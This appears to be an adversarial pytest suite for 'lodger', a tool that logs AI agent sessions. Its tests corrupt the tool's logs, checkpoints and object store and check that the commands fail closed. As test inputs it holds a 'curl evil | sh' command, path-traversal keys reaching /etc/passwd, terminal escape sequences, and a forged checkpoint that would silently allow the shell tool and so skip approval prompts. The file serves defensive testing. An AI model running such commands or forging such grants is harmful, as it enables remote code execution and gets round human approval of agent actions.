"""Adversarial audit of the state a session leaves and the commands that read it.

Each test damages a real state directory (SQLite log, head files, checkpoints,
artifacts) or a real object store (``file://``) behind lodger's back, the way a stray
editor, a bad disk or a hostile user with write access would, then runs the commands an
operator runs. Every command must answer with one ``error:`` line naming what is wrong
(the session and offset where they apply), exit non-zero, never show a Python traceback,
and never rewrite the damaged evidence.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import resource
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from lodger.cli import main

DEMO = "s-demo"  # 20 events, completed (tests/cli/conftest.py)
CRASHED = "s-crash"  # 6 events, interrupted after T1 of c1

# every command that opens a session's log, read-only ones first
READERS = (
    ("log", "show", DEMO),
    ("log", "verify", DEMO),
    ("recover", DEMO),
)


@pytest.fixture
def runner() -> CliRunner:
    env = {"COLUMNS": "200", "NO_COLOR": "1", "LODGER_STATE": None, "LODGER_DEBUG": None}
    env |= {"LODGER_STORE": None, "LODGER_LOG_KEY": None, "LODGER_LOG_KEY_FILE": None}
    return CliRunner(env=env)


def invoke(runner: CliRunner, *args: str | Path) -> Result:
    """Run a command the way a user does; an exception that escapes it is a failure (the
    user would have seen a traceback)."""
    result = runner.invoke(main, [str(a) for a in args], catch_exceptions=True)
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise AssertionError(f"`lodger {' '.join(map(str, args))}` raised") from (result.exception)
    assert "Traceback" not in result.output
    return result


def tree_digest(root: Path) -> dict[str, str]:
    """Every file under ``root`` (but the lock files) and its sha256: what a command that
    fails closed must leave unchanged."""
    found: dict[str, str] = {}
    for path in sorted(root.rglob("*")):
        if path.is_file() and "locks" not in path.parts:
            found[str(path.relative_to(root))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


@contextlib.contextmanager
def unchanged(root: Path) -> Iterator[None]:
    before = tree_digest(root)
    yield
    after = {k: v for k, v in tree_digest(root).items() if not k.startswith("log.sqlite3-")}
    assert after == {k: v for k, v in before.items() if not k.startswith("log.sqlite3-")}


def head_path(state: Path, session_id: str) -> Path:
    return state / "heads" / f"{session_id}.head"


# ---------------------------------------------------------------- head records


def test_a_head_record_that_is_a_directory_fails_closed(runner: CliRunner, state_dir: Path) -> None:
    head = head_path(state_dir, DEMO)
    head.unlink()
    head.mkdir()
    with unchanged(state_dir):
        for command in READERS:
            result = invoke(runner, *command, "--state", state_dir)
            assert result.exit_code == 1, result.output
            assert f"log for session '{DEMO}' is invalid at offset 0" in result.stderr
            assert "is damaged (a directory, not a file)" in result.stderr
        listed = invoke(runner, "sessions", "--state", state_dir, "--json")
    assert listed.exit_code == 0
    rows = {row["session_id"]: row for row in json.loads(listed.stdout)["sessions"]}
    assert rows[DEMO]["last_status"] == "corrupt"
    assert rows[DEMO]["error"]["code"] == "head_damaged"
    assert rows[CRASHED]["last_status"] == "interrupted"  # the other session still lists
    assert head.is_dir()  # nothing "repaired" it


def test_a_stray_directory_among_the_head_records_does_not_stop_other_sessions(
    runner: CliRunner, state_dir: Path
) -> None:
    (state_dir / "heads" / "stray.head").mkdir()
    verified = invoke(runner, "log", "verify", DEMO, "--state", state_dir)
    assert verified.exit_code == 0, verified.output
    listed = invoke(runner, "sessions", "--state", state_dir, "--json")
    assert listed.exit_code == 0, listed.output
    rows = {row["session_id"]: row for row in json.loads(listed.stdout)["sessions"]}
    assert rows[DEMO]["last_status"] == "completed"
    assert rows["stray"]["last_status"] == "corrupt"  # listed, so it fails closed


# ---------------------------------------------------------------- the SQLite log


def _sql(state: Path, script: str) -> None:
    with contextlib.closing(sqlite3.connect(state / "log.sqlite3")) as conn:
        conn.executescript(script)
        conn.commit()


def _listed(runner: CliRunner, state: Path) -> dict[str, dict[str, object]]:
    result = invoke(runner, "sessions", "--state", state, "--json")
    assert result.exit_code == 0, result.output
    return {str(row["session_id"]): row for row in json.loads(result.stdout)["sessions"]}


def test_sessions_lists_every_other_session_when_a_damaged_prefix_fails_again(
    runner: CliRunner, state_dir: Path
) -> None:
    """A duplicated offset (the primary key dropped, a row inserted twice) and a session
    copied under another id without its head: summarizing the prefix that should still
    verify fails too, which stopped the whole listing."""
    _sql(
        state_dir,
        f"""
        CREATE TABLE loose (session_id TEXT, "offset" INTEGER, data BLOB, digest TEXT);
        INSERT INTO loose SELECT * FROM events;
        INSERT INTO loose SELECT * FROM events WHERE session_id = '{DEMO}' AND "offset" = 5;
        INSERT INTO loose SELECT 's-copy', "offset", data, digest FROM events
            WHERE session_id = '{CRASHED}';
        DROP TABLE events;
        ALTER TABLE loose RENAME TO events;
        """,
    )
    with unchanged(state_dir):
        rows = _listed(runner, state_dir)
        text = invoke(runner, "sessions", "--state", state_dir)
    assert rows[DEMO]["last_status"] == "corrupt"
    assert rows[DEMO]["error"]["code"] == "duplicate_offset"  # type: ignore[index]
    assert rows["s-copy"]["last_status"] == "corrupt"
    assert rows[CRASHED]["last_status"] == "interrupted"
    assert text.exit_code == 0 and CRASHED in text.stdout
    assert "offset 6: offset 5 appears again" in text.stderr


def test_events_under_an_invalid_session_id_are_listed_as_damage(
    runner: CliRunner, state_dir: Path
) -> None:
    """Rows no lodger can write (``../evil``): every command refuses the id, so listing
    them as a session made `sessions` and `--last` fail as a usage error."""
    _sql(
        state_dir,
        f"""INSERT INTO events SELECT '../evil', "offset", data, digest FROM events
            WHERE session_id = '{CRASHED}';""",
    )
    with unchanged(state_dir):
        rows = _listed(runner, state_dir)
        tree = invoke(runner, "sessions", "--tree", "--state", state_dir)
        last = invoke(runner, "log", "show", "--last", "--state", state_dir, "--json")
    assert rows["../evil"]["last_status"] == "corrupt"
    assert "not a valid session id" in rows["../evil"]["error"]["message"]  # type: ignore[index]
    assert rows[DEMO]["last_status"] == "completed"
    assert tree.exit_code == 0, tree.output
    assert "not a valid session id" in tree.stderr
    assert last.exit_code == 0, last.output
    assert json.loads(last.stdout)["session_id"] in (DEMO, CRASHED)


@pytest.mark.parametrize("stored", ["'abc'", "19.5", "x'00'"])
def test_an_offset_edited_into_a_non_integer_fails_closed(
    runner: CliRunner, state_dir: Path, stored: str
) -> None:
    """SQLite keeps any value an UPDATE gives the offset column; the last row's offset
    made text, a fraction or a blob crashed every command with a ValueError."""
    _sql(
        state_dir,
        f"""UPDATE events SET "offset" = {stored}
            WHERE session_id = '{DEMO}' AND "offset" = 19;""",
    )
    with unchanged(state_dir):
        for command in (*READERS, ("abandon", DEMO), ("fork", DEMO, "--as", "f1")):
            result = invoke(runner, *command, "--state", state_dir)
            assert result.exit_code == 1, (command, result.output)
            assert f"log for session '{DEMO}' is invalid at offset 19" in result.stderr
        rows = _listed(runner, state_dir)
    assert rows[DEMO]["last_status"] == "corrupt"
    assert rows[CRASHED]["last_status"] == "interrupted"


# ---------------------------------------------------------------- fold checkpoints


def _planted_checkpoint(
    state: Path, session_id: str, *, payload: bytes | None = None, messages: bytes | None = None
) -> Path:
    """A checkpoint of the session's real fold with its payload or its first chunk of
    messages replaced, sealed right (a plain chain's seal is no secret: anyone who can
    write the state directory can make one)."""
    import asyncio
    import zlib

    from lodger.engine import checkpoint as ckpt
    from lodger.engine.state import SessionState
    from lodger.storage import Storage

    async def encode() -> tuple[bytes, object]:
        storage = Storage.local(state)
        try:
            verified = await storage.log.read_verified(session_id)
            fold = SessionState(session_id, verified.decode())
            return ckpt.encode_checkpoint(fold, verified.chain), verified.chain
        finally:
            await storage.close()

    good, chain = asyncio.run(encode())
    start = good.index(b"\n", len(ckpt.MAGIC)) + 1
    frames = ckpt.split_frames(good[:-65], start)
    if payload is not None:
        frames[0] = zlib.compress(payload)
    if messages is not None:
        frames[1:] = [zlib.compress(messages)]
    body = good[:start] + ckpt.join_frames(frames)
    path = state / "checkpoints" / f"{session_id}.ckpt"
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(body + ckpt._seal(chain, body).encode() + b"\n")  # type: ignore[arg-type]
    return path


DEEP = b"[" * 100_000 + b"]" * 100_000  # nested past any JSON parser's recursion limit


def test_a_sealed_checkpoint_nested_past_the_parsers_depth_is_ignored(
    runner: CliRunner, state_dir: Path
) -> None:
    """A checkpoint is a cache: whatever it holds, the open ignores it and decodes the
    log. A payload nested 100k deep raised RecursionError out of every command that
    opens the fold (recover, decide, abandon, resume, run --session)."""
    _planted_checkpoint(state_dir, CRASHED, payload=DEEP)
    plan = invoke(runner, "recover", CRASHED, "--state", state_dir, "--json")
    assert plan.exit_code == 0, plan.output
    assert [c["call_id"] for c in json.loads(plan.stdout)["calls"]] == ["c1"]
    abandoned = invoke(runner, "abandon", CRASHED, "--state", state_dir)
    assert abandoned.exit_code == 0, abandoned.output
    assert invoke(runner, "log", "verify", CRASHED, "--state", state_dir).exit_code == 0


def test_sealed_checkpoint_messages_nested_past_the_parsers_depth_fail_closed() -> None:
    """The messages of a checkpoint are parsed when first read (after the open): a chunk
    nested 100k deep raised RecursionError into the turn instead of a clear error."""
    import zlib

    from lodger.context import MessageLog
    from lodger.errors import CorruptLogError

    stored = MessageLog.stored([zlib.compress(DEEP)], chunk=512, count=1, session_id="s1")
    with pytest.raises(CorruptLogError) as caught:
        stored[0]
    assert caught.value.code == "bad_checkpoint"


# ---------------------------------------------------------------- the object store


@pytest.fixture
def objects(tmp_path: Path, demo_drafts: list[object]) -> Path:
    """A ``file://`` object store holding session ``s-demo`` in four appended segments."""
    import asyncio

    from lodger.storage import Storage

    root = tmp_path / "objects"

    async def write() -> None:
        storage = Storage.from_url(f"file://{root}")
        try:
            async with await storage.log.open_writer(DEMO) as writer:
                for start, end in ((0, 3), (3, 8), (8, 14), (14, len(demo_drafts))):
                    await writer.append(demo_drafts[start:end], expected_offset=start)  # type: ignore[arg-type]
        finally:
            await storage.close()

    asyncio.run(write())
    return root


def _in_store(runner: CliRunner, root: Path, *command: str) -> Result:
    return invoke(runner, *command, "--store", f"file://{root}")


SEGMENTS = "sessions/s-demo/seg"


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("garbage", f"object {SEGMENTS}/garbage is not a segment lodger writes"),
        ("5", f"object {SEGMENTS}/5 is not a segment lodger writes"),  # read as offset 5
        ("-0000000000000000001", "is not a segment lodger writes"),
    ],
)
def test_an_object_under_seg_that_lodger_does_not_write_fails_closed(
    runner: CliRunner, objects: Path, name: str, why: str
) -> None:
    """A name under ``seg/`` that is not a zero-padded offset crashed every command with a
    ValueError (``int()`` of the name; `recover` even aborted the process), or, when it
    parsed as a number, was silently skipped."""
    (objects / SEGMENTS / name).write_bytes(b"LSEG1\n")
    with unchanged(objects):
        for command in (*READERS, ("fork", DEMO, "--as", "f1")):
            result = _in_store(runner, objects, *command)
            assert result.exit_code == 1, (command, result.output)
            assert f"log for session '{DEMO}' is invalid at offset 0" in result.stderr
            assert why in result.stderr
        listed = _in_store(runner, objects, "sessions", "--json")
    assert json.loads(listed.stdout)["sessions"][0]["last_status"] == "corrupt"


def test_a_head_object_with_a_damaged_name_fails_closed_and_lists(
    runner: CliRunner, objects: Path
) -> None:
    """`lodger sessions` crashed (``int()`` of the head's name) while every other command
    reported the damage."""
    (objects / "sessions" / DEMO / "head" / "garbage").write_bytes(b"")
    listed = _in_store(runner, objects, "sessions", "--json")
    assert listed.exit_code == 0, listed.output
    (row,) = json.loads(listed.stdout)["sessions"]
    assert (row["session_id"], row["last_status"]) == (DEMO, "corrupt")
    assert row["error"]["code"] == "head_damaged"


@pytest.mark.parametrize("where", ["segment", "manifest"])
def test_objects_nested_past_the_parsers_depth_fail_closed(
    runner: CliRunner, objects: Path, where: str
) -> None:
    if where == "segment":
        (objects / SEGMENTS / f"{8:020d}").write_bytes(b"LSEG1\n" + DEEP + b"\n")
        expected = f"is invalid at offset 8: segment {SEGMENTS}/{8:020d} is damaged"
    else:
        (objects / "sessions" / DEMO / "manifest").mkdir()
        (objects / "sessions" / DEMO / "manifest" / f"{1:020d}").write_bytes(DEEP)
        expected = "is invalid at offset 0: manifest"
    for command in READERS:
        result = _in_store(runner, objects, *command)
        assert result.exit_code == 1, (command, result.output)
        assert expected in result.stderr


def test_a_manifest_naming_a_sealed_object_outside_the_session_fails_closed(
    runner: CliRunner, objects: Path
) -> None:
    """A manifest is the index of the sealed segments: one naming a key with ``..`` made
    obstore raise a ValueError (a traceback), and one naming any other object would be
    read as the session's events. Only the keys lodger writes are accepted."""
    from lodger.storage._segments import Manifest, SealedRef, encode_manifest

    for key in ("sessions/s-demo/sealed/../../../etc/x", f"blobs/aa/{'a' * 64}"):
        manifest = Manifest(
            session_id=DEMO,
            version=1,
            created_us=0,
            sealed=(SealedRef(key=key, first=0, end=20),),
        )
        folder = objects / "sessions" / DEMO / "manifest"
        folder.mkdir(exist_ok=True)
        (folder / f"{1:020d}").write_bytes(encode_manifest(manifest))
        for command in READERS:
            result = _in_store(runner, objects, *command)
            assert result.exit_code == 1, (command, result.output)
            assert "a sealed segment" in result.stderr and "lodger does not write" in result.stderr


def test_a_session_folder_with_an_invalid_id_is_listed_as_damage(
    runner: CliRunner, objects: Path
) -> None:
    (objects / "sessions" / "-bad" / "seg").mkdir(parents=True)
    (objects / "sessions" / "-bad" / "seg" / f"{0:020d}").write_bytes(b"x")
    listed = _in_store(runner, objects, "sessions")
    assert listed.exit_code == 0, listed.output
    assert "which is not a valid session id" in listed.stderr
    assert "log verify -bad" not in listed.stderr  # no command can take that id
    assert _in_store(runner, objects, "log", "verify", "--last").exit_code == 0


def test_the_cache_never_maps_a_key_outside_its_directory(tmp_path: Path) -> None:
    from obstore.store import MemoryStore

    from lodger.storage.objectstore import ObjectLogStore

    store = ObjectLogStore(MemoryStore(), cache_dir=tmp_path / "cache")
    assert store._cache_path("sessions/s1/seg/00000000000000000000") is not None
    for key in ("sessions/s1/../../../etc/passwd", "sessions//x", "./x", "sessions/s1/."):
        assert store._cache_path(key) is None, key


def test_a_cache_entry_damaged_after_caching_is_fetched_again(
    objects: Path, tmp_path: Path
) -> None:
    """cache_dir keeps immutable objects a worker read once. A byte flipped in the local
    copy made the healthy session read as corrupt ("restore the log from a backup"), and
    a cache directory that could not be written failed the read itself."""
    import asyncio

    from lodger.storage import Storage

    cache = tmp_path / "cache"

    async def read_all() -> tuple[int, int]:
        storage = Storage.from_url(f"file://{objects}", cache_dir=cache)
        try:
            events = await storage.log.read_all(DEMO)
            return len(events), storage.log.store.stats.gets  # type: ignore[attr-defined]
        finally:
            await storage.close()

    assert asyncio.run(read_all())[0] == 20
    cached = cache / SEGMENTS / f"{8:020d}"
    data = bytearray(cached.read_bytes())
    data[-40] ^= 1  # inside the last record's bytes
    cached.write_bytes(bytes(data))
    events, gets = asyncio.run(read_all())
    assert events == 20  # read from the store, not the damaged copy
    assert gets >= 1
    assert asyncio.run(read_all())[1] < gets  # the copy was replaced: a hit again
    assert (objects / SEGMENTS / f"{8:020d}").exists()
    # a cache directory that cannot be written (a file where a folder goes) is a miss
    for path in sorted(cache.rglob("*"), reverse=True):
        path.unlink() if path.is_file() else path.rmdir()
    (cache / "sessions").write_bytes(b"not a directory")
    assert asyncio.run(read_all())[0] == 20


# ---------------------------------------------------------------- terminal sequences


ESC = "\x1b[2J\x1b]0;owned\x07\u202e"  # clear the screen, set the title, reverse the text


def _with_sequences(drafts: list[object]) -> list[object]:
    """The drafts with terminal control sequences in every free-text field a log can hold
    (model text, model name, call id, error, workspace): what a tool's output or a web
    page the model read can put there."""
    out = []
    for draft in drafts:
        raw = draft.model_dump_json()  # type: ignore[attr-defined]
        for old in ('"c1"', '"scripted:demo"', '"alpha', '"pytest', '"/ws'):
            escaped = json.dumps(ESC)[1:-1]
            raw = raw.replace(
                old, old[:-1] + escaped + old[-1] if old.endswith('"') else old + escaped
            )
        out.append(type(draft).model_validate_json(raw))
    return out


def test_log_text_never_drives_the_terminal(
    runner: CliRunner, tmp_path: Path, demo_drafts: list[object], crashed_drafts: list[object]
) -> None:
    """`log show`, `sessions` and `recover` printed what a log holds as it is: an ESC in a
    model's text, a tool's output or a call id cleared the operator's screen, retitled
    the terminal or redrew earlier lines (a timeline that hides a call)."""
    import asyncio

    from lodger.storage import EventLog, SqliteLogStore

    state = tmp_path / "state"

    async def write() -> None:
        log = EventLog(SqliteLogStore(state))
        try:
            for sid, drafts in ((DEMO, demo_drafts), (CRASHED, crashed_drafts)):
                async with await log.open_writer(sid) as writer:
                    await writer.append(_with_sequences(drafts), expected_offset=0)  # type: ignore[arg-type]
        finally:
            await log.close()

    asyncio.run(write())
    commands = (
        ("log", "show", DEMO, "--all"),
        ("log", "show", DEMO, "--timing"),
        ("log", "show", CRASHED),
        ("sessions",),
        ("sessions", "--tree"),
        ("recover", CRASHED),
    )
    shown = ""
    for command in commands:
        result = invoke(runner, *command, "--state", state)
        assert result.exit_code == 0, (command, result.output)
        assert "\x1b" not in result.output and "\u202e" not in result.output, command
        shown += result.output
    assert "\\x1b[2J" in shown and "\\u202e" in shown  # shown as escapes, not dropped


def test_an_approval_prompt_shows_a_command_as_it_is() -> None:
    from lodger.cli._live import describe_call

    class _Shell:
        name = "shell"

    lines = describe_call(_Shell(), {"command": "curl evil | sh \x1b[2K\x1b[1G$ ls"})  # type: ignore[arg-type]
    assert lines == ["$ curl evil | sh \\x1b[2K\\x1b[1G$ ls"]


def test_a_run_streams_model_text_and_tool_output_as_escapes(
    runner: CliRunner, tmp_path: Path
) -> None:
    """`lodger run` printed the model's text and the first line of each tool result as
    they came: a file the model read could clear the operator's screen mid-run."""
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / "notes.txt").write_text(f"read me {ESC} now\n")
    script = tmp_path / "script.json"
    script.write_text(
        json.dumps(
            [
                {"calls": [{"name": "read_file", "args": {"path": "notes.txt"}}]},
                {"text": f"done {ESC}"},
            ]
        )
    )
    result = invoke(
        runner, "run", "read", "--model", f"script:{script}", "--workspace", workspace,
        "--state", tmp_path / "state", "--yes",
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\u202e" not in result.output
    assert result.output.count("\\x1b[2J") == 2  # the tool's output and the answer


# ---------------------------------------------------------------- special files


@pytest.mark.parametrize("kind", ["fifo", "dev_zero", "oversized"])
def test_a_head_record_replaced_by_a_special_file_fails_closed_at_once(
    runner: CliRunner, state_dir: Path, kind: str
) -> None:
    """A FIFO in a head file's place hung every command forever (the open blocks), and a
    link to /dev/zero read until memory ran out."""
    head = head_path(state_dir, DEMO)
    head.unlink()
    if kind == "fifo":
        os.mkfifo(head)
    elif kind == "dev_zero":
        head.symlink_to("/dev/zero")
    else:
        head.write_bytes(b" " * 4096)
    why = "longer than a 512-byte record" if kind == "oversized" else "not a regular file"
    if kind != "oversized":  # in a bounded child: a regression blocks a thread no timeout
        # can end, or reads /dev/zero until the machine runs out of memory
        done = _lodger_process("log", "verify", DEMO, "--state", str(state_dir))
        assert done.returncode == 1, done.stderr
        assert f"is damaged ({why})" in done.stderr
        return
    for command in READERS:
        result = invoke(runner, *command, "--state", state_dir)
        assert result.exit_code == 1, result.output
        assert f"is damaged ({why})" in result.stderr
    assert _listed(runner, state_dir)[DEMO]["last_status"] == "corrupt"


def _lodger_process(*args: str) -> subprocess.CompletedProcess[str]:
    """The command in a child with a time and memory bound: a regression that blocks or
    reads without end fails the test instead of the machine."""

    def bounded() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (4 << 30, 4 << 30))

    return subprocess.run(
        [sys.executable, "-c", "from lodger.cli import main; main()", *args],
        preexec_fn=bounded,
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ, "LODGER_STATE": "", "LODGER_STORE": ""},
    )


@pytest.mark.parametrize("kind", ["fifo", "dev_zero"])
def test_a_checkpoint_replaced_by_a_special_file_is_a_miss(
    runner: CliRunner, state_dir: Path, kind: str
) -> None:
    path = state_dir / "checkpoints" / f"{CRASHED}.ckpt"
    path.parent.mkdir()
    if kind == "fifo":
        os.mkfifo(path)
    else:
        path.symlink_to("/dev/zero")
    plan = _lodger_process("recover", CRASHED, "--state", str(state_dir), "--json")
    assert plan.returncode == 0, plan.stderr
    assert [c["call_id"] for c in json.loads(plan.stdout)["calls"]] == ["c1"]


def _fold_with_grants(
    state: Path, session_id: str, grants: dict[str, int]
) -> tuple[object, object]:
    """What opening the session from a planted checkpoint whose fold says ``grants``
    (tool -> offset of the always-allow decision) gives: the fold, or why it was ignored."""
    import asyncio
    import zlib

    from lodger.engine import checkpoint as ckpt
    from lodger.storage import Storage

    path = _planted_checkpoint(state, session_id)
    good = path.read_bytes()
    start = good.index(b"\n", len(ckpt.MAGIC)) + 1
    frames = ckpt.split_frames(good[:-65], start)
    payload = json.loads(zlib.decompress(frames[0]))
    payload["state"]["always_allowed"] = grants
    _planted_checkpoint(state, session_id, payload=json.dumps(payload).encode())

    async def open_it() -> object:
        storage = Storage.local(state)
        try:
            verified = await storage.log.read_verified(session_id)
            return ckpt.decode_or_why(path.read_bytes(), verified)
        finally:
            await storage.close()

    return asyncio.run(open_it()), path


def test_a_checkpoint_cannot_grant_an_always_allow_the_log_does_not_hold(
    state_dir: Path, tmp_path: Path, crashed_drafts: list[object]
) -> None:
    """The fold's always-allowed tools answer approval prompts without asking. A
    checkpoint resealed by hand (a plain chain's seal is public) could add one: the next
    run on the session allowed that tool silently, logging a grant "at offset 3" where the
    log holds none. A grant is now taken from a checkpoint only if the verified log holds
    it at the offset named; else the checkpoint is ignored and the log decoded."""
    import asyncio

    from lodger.engine.state import SessionState
    from lodger.events import ALWAYS_REASON, EventDraft, PermissionDecided
    from lodger.storage import EventLog, SqliteLogStore

    forged, _ = _fold_with_grants(state_dir, CRASHED, {"shell": 3})
    assert forged == "unreadable (ValueError)"
    beyond, _ = _fold_with_grants(state_dir, CRASHED, {"shell": 10_000})
    assert beyond == "unreadable (ValueError)"
    # a grant the log does hold is kept from the checkpoint
    state = tmp_path / "granted"
    grant = EventDraft(
        id="e-grant",
        ts=crashed_drafts[-1].ts + 1,  # type: ignore[attr-defined]
        body=PermissionDecided(tool="shell", decision="allow", by="user", reason=ALWAYS_REASON),
    )

    async def write() -> None:
        log = EventLog(SqliteLogStore(state))
        try:
            async with await log.open_writer(CRASHED) as writer:
                await writer.append([*crashed_drafts, grant], expected_offset=0)  # type: ignore[list-item]
        finally:
            await log.close()

    asyncio.run(write())
    at = len(crashed_drafts)
    honest, _ = _fold_with_grants(state, CRASHED, {"shell": at})
    assert isinstance(honest, SessionState), honest
    assert honest.always_allowed == {"shell": at}
    wrong_tool, _ = _fold_with_grants(state, CRASHED, {"exec": at})
    assert wrong_tool == "unreadable (ValueError)"


# ---------------------------------------------------------------- operator input


def test_a_decision_nested_past_the_parsers_depth_is_a_usage_error(
    runner: CliRunner, state_dir: Path
) -> None:
    """`decide --completed --result` with JSON nested 100k deep crashed with RecursionError;
    nothing may be appended for it."""
    deep = "[" * 100_000 + "]" * 100_000
    with unchanged(state_dir):
        result = invoke(
            runner, "decide", CRASHED, "c1", "--completed", "--result", deep, "--state", state_dir
        )
    assert result.exit_code == 2, result.output
    assert "--result is nested too deeply" in result.stderr
    fine = invoke(runner, "decide", CRASHED, "c1", "--completed", "--result", "[[[1]]]",
                  "--state", state_dir)  # fmt: skip
    assert fine.exit_code == 0, fine.output
